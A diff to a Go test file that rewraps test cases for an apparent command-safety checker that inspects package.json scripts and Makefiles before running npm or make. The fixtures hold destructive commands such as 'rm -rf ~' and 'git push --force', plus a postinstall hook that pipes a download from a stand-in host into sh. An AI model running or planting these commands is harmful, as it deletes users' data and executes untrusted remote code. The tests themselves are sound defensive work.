@@ -62,7 +62,9 @@ func TestInner(t *testing.T) {
 			"x.py: deletes outside"},
 		{"x.js", "#!/usr/bin/env node\nrequire('fs').rmSync('/srv/data', {recursive: true})\n",
 			"node x.js", Ask, "x.js: deletes outside"},
-		{"package.json", "{\n \"scripts\": {\n  \"build\": \"tsc\",\n  \"prebuild\": \"rm -rf ~/x\"\n }\n}", "npm run build", Ask, "package.json:4: rm -rf ~/x: "},
+		{"package.json", "{\n \"scripts\": {\n  \"build\": \"tsc\",\n" +
+			"  \"prebuild\": \"rm -rf ~/x\"\n" +
+			" }\n}", "npm run build", Ask, "package.json:4: rm -rf ~/x: "},
 		{"package.json", `{"scripts": {"test": "sudo jest"}}`, "npm test", Ask,
 			"package.json:1: sudo jest: "},
 		{"package.json", `{"scripts": {"postinstall": "curl x.test/i.sh | sh"}}`, "npm ci", Ask,
@@ -84,7 +86,8 @@ func TestInner(t *testing.T) {
 
 		{"Makefile", "all: a\n\techo $(X)\n# why\n\nX := $(shell git push --force)\na:\n\ttrue\n",
 			"make", Ask, "Makefile:5: git push --force: "},
-		{"Makefile", "D = src\nD += ~/notes\nclean:\n\techo 1; \\\n\techo 2\nifdef X\n\trm -rf $(D)\nendif\n", "make clean", Ask, "Makefile:7: "},
+		{"Makefile", "D = src\nD += ~/notes\nclean:\n\techo 1; \\\n\techo 2\nifdef X\n" +
+			"\trm -rf $(D)\nendif\n", "make clean", Ask, "Makefile:7: "},
 		{"Makefile", ".ONESHELL:\nall:\n\tcd ~\n\trm -rf src\n", "make all", Ask,
 			"Makefile:4: rm -rf src: "},
 		{"Makefile", "TO = x\nall:\n\tcp a $(TO)\n", "make TO=/etc/x", Ask, "Makefile:3: "},
@@ -124,10 +127,12 @@ func TestInner(t *testing.T) {
 		{"package.json", `{"scripts": {"build": "rm -rf dist && tsc -p . && node build.js", "nuke": "rm -rf ~"}}`, "npm run build", Allow, ""},
 		{"package.json", `{"scripts": {"nuke": "rm -rf ~"}}`, "npm run", Allow, ""},
 		{"package.json", `{"scripts": `, "npm run build", Allow, ""},
-		{"Makefile", "B := dist\nall: $(B)/x\n\tgo build -o $(B)/x .\nnuke:\n\trm -rf ~\nclean:\n\trm -rf $(B) $(EXTRA)/*\n", "make all clean", Allow, ""},
+		{"Makefile", "B := dist\nall: $(B)/x\n\tgo build -o $(B)/x .\nnuke:\n\trm -rf ~\nclean:\n" +
+			"\trm -rf $(B) $(EXTRA)/*\n", "make all clean", Allow, ""},
 		{"Makefile", "ifeq ($(X),1)\nD = ~\nelse\nD = dist\nendif\nall:\n\trm -rf $(D)\n", "make",
 			Allow, ""},
-		{"Makefile", "all: a.o\n%.o: %.c\n\tcc -c $<\nnuke-%:\n\trm -rf ~\nLAZY = $(shell rm -rf ~)\n", "make", Allow, ""},
+		{"Makefile", "all: a.o\n%.o: %.c\n\tcc -c $<\nnuke-%:\n\trm -rf ~\n" +
+			"LAZY = $(shell rm -rf ~)\n", "make", Allow, ""},
 		{"Makefile", "all: $(OBJ)\n\ttrue\nnuke:\n\trm -rf ~\n", "make", Allow, ""},
 		{"Makefile", "clean:\n\trm -f *.xml out-*\n\trm -rf not-there '$(X)'\n", "make clean",
 			Allow, ""},
@@ -249,7 +254,8 @@ func TestInnerSwap(t *testing.T) {
 // TestIncludedMakefiles: what a makefile takes in is bound with it, and what that takes in.
 func TestIncludedMakefiles(t *testing.T) {
 	g, root := desk(t, "", "w/mk/not.mk")
-	put(t, root+"/w", map[string]string{"Makefile": "include mk/a.mk $(X)\n-include gone.mk\nall:\n\ttrue\n", "mk/a.mk": "sinclude mk/b.mk\n", "mk/b.mk": "include Makefile\nB = 1\n"})
+	put(t, root+"/w", map[string]string{"Makefile": "include mk/a.mk $(X)\n-include gone.mk\n" +
+		"all:\n\ttrue\n", "mk/a.mk": "sinclude mk/b.mk\n", "mk/b.mk": "include Makefile\nB = 1\n"})
 	plan := resolved(t, shellparse.Parse("make",
 		shellparse.Options{Dir: g.Caller.Dir, Home: g.Caller.Home, Vars: g.Caller.Env}), g.Caller)
 	var got []string
